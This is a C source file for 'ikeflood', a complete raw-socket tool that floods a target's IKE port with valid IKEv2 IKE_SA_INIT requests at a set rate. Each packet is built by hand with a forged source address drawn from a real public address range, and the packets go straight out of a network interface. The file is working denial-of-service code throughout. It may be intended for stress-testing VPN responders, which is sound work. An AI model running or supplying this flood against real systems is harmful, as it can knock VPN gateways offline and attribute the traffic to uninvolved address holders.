/* SPDX-License-Identifier: BSD-2-Clause */
#include "common/wr.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>

/*
 * ikeflood IFACE MAC ADDRESS RATE SECONDS: IKE_SA_INIT requests from sources, SPIs and nonces that are random, so many
 * a second, as frames out of an interface. Each is one that a responder would take: AES-GCM, PRF-HMAC-SHA-256 and
 * curve25519. Prints what it really sent as JSON.
 */
enum { BATCH = 32, FRAME_MAX = 256, ETH_LEN = 14, IP_LEN = 20, UDP_LEN = 8, IKE_LEN = 28 };

static void die(const char *what)
{
	fprintf(stderr, "ikeflood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint64_t now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000 + (uint64_t)t.tv_nsec;
}

/* Good enough to make packets differ. */
static uint64_t state;
static uint64_t rnd(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return state;
}

static void put_random(struct wr *w, unsigned int n)
{
	for (unsigned int i = 0; i < n; i += 8)
		wr_u64(w, rnd());
}

/* A source that is a host somewhere: no network of the laboratory, nothing special. */
static uint32_t source(void)
{
	return 11u << 24 | (uint32_t)(rnd() % 0x5000000 + 1);
}

static uint16_t ip_sum(const uint8_t *p)
{
	uint32_t sum = 0;

	for (unsigned int i = 0; i < IP_LEN; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~(sum + (sum >> 16));
}

static void put_transform(struct wr *w, bool last, uint8_t type, uint16_t id, uint16_t bits)
{
	wr_u8(w, last ? 0 : 3);
	wr_u8(w, 0);
	wr_u16(w, bits ? 12 : 8);
	wr_u8(w, type);
	wr_u8(w, 0);
	wr_u16(w, id);
	if (!bits)
		return;
	wr_u16(w, 0x800e);
	wr_u16(w, bits);
}

static void put_payloads(struct wr *w)
{
	wr_u8(w, 34); /* SA, next KE */
	wr_u8(w, 0);
	wr_u16(w, 4 + 8 + 12 + 8 + 8);
	wr_u32(w, 8 + 12 + 8 + 8); /* the last proposal, its length */
	wr_u8(w, 1);
	wr_u8(w, 1);
	wr_u8(w, 0);
	wr_u8(w, 3);
	put_transform(w, false, 1, 20, 128);
	put_transform(w, false, 2, 5, 0);
	put_transform(w, true, 4, 31, 0);
	wr_u8(w, 40); /* KE, next nonce */
	wr_u8(w, 0);
	wr_u16(w, 8 + 32);
	wr_u16(w, 31);
	wr_u16(w, 0);
	put_random(w, 32);
	wr_u8(w, 0);
	wr_u8(w, 0);
	wr_u16(w, 4 + 32);
	put_random(w, 32);
}

static size_t frame(uint8_t *buf, const uint8_t *mac, uint32_t to)
{
	const uint16_t ike = IKE_LEN + 40 + 40 + 36, udp = UDP_LEN + ike, ip = IP_LEN + udp;
	struct wr w = wr_of(buf, FRAME_MAX);
	uint16_t sum;

	wr_bytes(&w, mac, 6);
	wr_bytes(&w, "\x02\0\0\0\0\x77", 6);
	wr_u16(&w, ETH_P_IP);
	wr_u16(&w, 0x4500);
	wr_u16(&w, ip);
	wr_u32(&w, 0);
	wr_u16(&w, 64 << 8 | 17);
	wr_u16(&w, 0);
	wr_u32(&w, source());
	wr_u32(&w, to);
	sum = ip_sum(buf + ETH_LEN);
	buf[ETH_LEN + 10] = (uint8_t)(sum >> 8);
	buf[ETH_LEN + 11] = (uint8_t)sum;
	wr_u16(&w, 500);
	wr_u16(&w, 500);
	wr_u16(&w, udp);
	wr_u16(&w, 0); /* RFC 768: no checksum */
	wr_u64(&w, rnd() | 1);
	wr_u64(&w, 0);
	wr_u32(&w, 0x21202208); /* first SA, version 2, IKE_SA_INIT, from the initiator */
	wr_u32(&w, 0);
	wr_u32(&w, ike);
	put_payloads(&w);
	return w.n;
}

static int open_interface(const char *name)
{
	struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name)};
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), one = 1;

	if (fd < 0 || !ll.sll_ifindex || bind(fd, (struct sockaddr *)&ll, sizeof(ll)))
		die(name);
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	return fd;
}

int main(int argc, char **argv)
{
	static uint8_t buf[BATCH][FRAME_MAX];
	struct mmsghdr mm[BATCH] = {0};
	struct iovec iov[BATCH];
	uint64_t begin, now, sent = 0, due, rate, last;
	struct in_addr to;
	unsigned int m[6];
	uint8_t mac[6];
	int fd;

	if (argc != 6 || inet_pton(AF_INET, argv[3], &to) != 1 ||
	    sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6) {
		fprintf(stderr, "usage: ikeflood IFACE MAC ADDRESS RATE SECONDS\n");
		return 2;
	}
	for (unsigned int i = 0; i < 6; i++)
		mac[i] = (uint8_t)m[i];
	rate = strtoull(argv[4], NULL, 10);
	if (getrandom(&state, sizeof(state), 0) != sizeof(state))
		die("getrandom");
	state |= 1;
	fd = open_interface(argv[1]);
	begin = now_ns();
	last = begin + strtoull(argv[5], NULL, 10) * 1000000000;
	for (now = begin; now < last; now = now_ns()) {
		due = (now - begin) * rate / 1000000000;
		if (due <= sent) {
			nanosleep(&(struct timespec){.tv_nsec = 100000}, NULL);
			continue;
		}
		for (unsigned int i = 0; i < BATCH; i++) {
			iov[i] = (struct iovec){.iov_base = buf[i], .iov_len = frame(buf[i], mac, ntohl(to.s_addr))};
			mm[i].msg_hdr = (struct msghdr){.msg_iov = &iov[i], .msg_iovlen = 1};
		}
		int n = sendmmsg(fd, mm, due - sent < BATCH ? (unsigned int)(due - sent) : BATCH, 0);

		if (n < 0 && errno != ENOBUFS && errno != EAGAIN)
			die("sendmmsg");
		sent += n > 0 ? (uint64_t)n : 0;
	}
	printf("{\"sent\": %llu, \"rate\": %llu}\n", (unsigned long long)sent,
	       (unsigned long long)(sent * 1000000000 / (now_ns() - begin)));
	return 0;
}
